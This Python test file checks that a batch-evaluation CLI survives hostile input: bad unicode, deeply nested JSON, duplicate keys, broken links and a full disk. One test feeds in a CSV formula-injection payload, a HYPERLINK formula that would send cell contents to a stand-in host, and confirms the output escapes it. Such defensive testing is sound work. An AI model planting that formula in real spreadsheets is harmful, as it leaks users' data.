"""`imminence batch` against hostile and broken input (issue 13): a bad line is reported
and the batch goes on; `--resume` is never stuck on it; a broken link in a folder is an
invalid input; a full disk is a clear message, not a traceback."""

from __future__ import annotations

import json
from pathlib import Path

import pytest

from engine import evaluate
from engine.batch.run import BatchConfig, run_batch

from .conftest import SCENARIOS, read_jsonl, run_cli

GOOD = {"id": "good-line", "threat": {"hours_until": 2, "probability": 0.9}}


def _hostile_jsonl(path: Path) -> Path:
    lines = [
        json.dumps(GOOD),                                         # 1 valid
        '{"territory": {"state": "\\ud800"}}',                    # 2 lone surrogate
        "[" * 5000 + "]" * 5000,                                  # 3 deep nesting
        '{"sources": ' + "[" * 5000 + "]" * 5000 + "}",           # 4 deep, inside an object
        '{"threat": {"probability": 0.1, "probability": 0.9}}',   # 5 duplicate key
        json.dumps({**GOOD, "id": "after-the-bad-lines"}),        # 6 valid
    ]
    path.write_text("\n".join(lines) + "\n", encoding="utf-8")
    return path


def _lines_reported(stderr: str, name: str) -> set[int]:
    found = set()
    for line in stderr.splitlines():
        if line.startswith(name + ":"):
            found.add(int(line[len(name) + 1:].split(":", 1)[0]))
    return found


@pytest.mark.parametrize("engine", ["rete", "fast"])
def test_bad_jsonl_lines_are_reported_and_the_batch_goes_on(tmp_path: Path,
                                                             engine: str) -> None:
    src = _hostile_jsonl(tmp_path / "hostile.jsonl")
    out = tmp_path / "out.jsonl"
    res = run_cli("batch", src, "--out", out, "--workers", "1", "--engine", engine)
    assert res.returncode == 1, res.stderr
    assert "Traceback" not in res.stderr
    assert _lines_reported(res.stderr, str(src)) == {2, 3, 4, 5}
    assert "lone surrogate" in res.stderr and "territory.state" in res.stderr
    assert "nesting deeper than" in res.stderr
    assert "duplicate key" in res.stderr and "threat.probability" in res.stderr
    assert [r["scenario_id"] for r in read_jsonl(out)] == ["good-line", "after-the-bad-lines"]
    # --resume is not stuck on the bad lines: it reports them again and finishes.
    again = run_cli("batch", src, "--out", out, "--workers", "1", "--engine", engine,
                    "--resume")
    assert again.returncode == 1, again.stderr
    assert "0 evaluated" in again.stderr and "Traceback" not in again.stderr
    assert _lines_reported(again.stderr, str(src)) == {2, 3, 4, 5}
    assert len(read_jsonl(out)) == 2


def test_an_engine_failure_on_one_scenario_is_reported_and_the_batch_goes_on(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    import engine.batch.run as batch
    from engine.errors import EngineError

    def flaky(scenario: object, *args: object, **kw: object) -> object:
        if getattr(scenario, "id", None) == "good-line":
            raise EngineError("durable-rules failed")
        return evaluate(scenario, *args, **kw)  # type: ignore[arg-type]

    monkeypatch.setattr(batch, "evaluate", flaky)
    src = _hostile_jsonl(tmp_path / "hostile.jsonl")
    reported: list[list[str]] = []
    summary = run_batch(BatchConfig(inputs=[src], out=tmp_path / "out.jsonl"),
                        on_invalid=reported.append)
    assert summary.evaluated == 1 and summary.invalid_count == 5
    assert any("durable-rules failed" in line for lines in reported for line in lines)


def test_a_folder_with_only_broken_links_is_invalid_input(tmp_path: Path) -> None:
    folder = tmp_path / "in"
    folder.mkdir()
    (folder / "gone.yaml").symlink_to(tmp_path / "nowhere.yaml")
    (folder / "gone.jsonl").symlink_to(tmp_path / "nowhere.jsonl")
    res = run_cli("batch", folder, "--out", tmp_path / "out.jsonl", "--workers", "1")
    assert res.returncode == 1, res.stderr
    assert "Traceback" not in res.stderr
    assert str(folder / "gone.yaml") in res.stderr and str(folder / "gone.jsonl") in res.stderr
    assert "0 evaluated" in res.stderr and "2 invalid" in res.stderr


def test_a_full_disk_is_a_clear_message_and_exit_code_3(tmp_path: Path) -> None:
    out = tmp_path / "out.jsonl"
    out.symlink_to("/dev/full")  # every write gives ENOSPC, as on a full disk
    res = run_cli("batch", SCENARIOS, "--out", out, "--workers", "1")
    assert res.returncode == 3, res.stderr
    assert "Traceback" not in res.stderr
    assert "No space left on device" in res.stderr and str(out) in res.stderr
    assert "--resume" in res.stderr


def test_a_full_disk_for_a_csv_output_is_a_clear_message(tmp_path: Path) -> None:
    out = tmp_path / "out.csv"
    (tmp_path / "out.csv.tmp").symlink_to("/dev/full")  # the final rendering fails
    res = run_cli("batch", SCENARIOS / "caroline-1837.yaml", "--out", out, "--workers", "1")
    assert res.returncode == 3, res.stderr
    assert "Traceback" not in res.stderr and "No space left on device" in res.stderr


def test_brackets_inside_strings_do_not_count_as_nesting() -> None:
    from engine.loader import MAX_DEPTH, json_too_deep

    text = json.dumps({"summary": "[" * 500 + '\\"{' * 100, "sources": [[["x"]]]})
    assert not json_too_deep(text)
    assert json_too_deep("[" * (MAX_DEPTH + 1) + "]" * (MAX_DEPTH + 1))
    assert not json_too_deep("[" * MAX_DEPTH + "]" * MAX_DEPTH)


def test_csv_cells_that_would_start_a_spreadsheet_formula_are_kept_as_text(
        tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    """A title or file name given by whoever wrote the scenario is written so that a
    spreadsheet opening the CSV shows it as text and runs nothing; the JSONL keeps it as
    given.
    (An id is a slug, which cannot start a formula.)"""
    import csv

    title = '=HYPERLINK("http://example.invalid/?"&A1,"click")'
    src = tmp_path / "-cases.jsonl"
    src.write_text(json.dumps({"id": "plain-id", "title": title, **{
        k: v for k, v in GOOD.items() if k != "id"}}) + "\n", encoding="utf-8")
    out = tmp_path / "out.csv"
    monkeypatch.chdir(tmp_path)  # the key is the file name as given: "-cases.jsonl:1"
    run_batch(BatchConfig(inputs=[src.name], out=out, workers=1))
    rows = list(csv.DictReader(out.open(encoding="utf-8", newline="")))
    assert rows and all(r["title"] == "'" + title and r["scenario_id"] == "plain-id" and
                        r["key"].startswith("'-cases.jsonl") for r in rows)
    jsonl = tmp_path / "out.jsonl"
    run_batch(BatchConfig(inputs=[src.name], out=jsonl, workers=1))
    assert read_jsonl(jsonl)[0]["input"]["key"] == "-cases.jsonl:1"
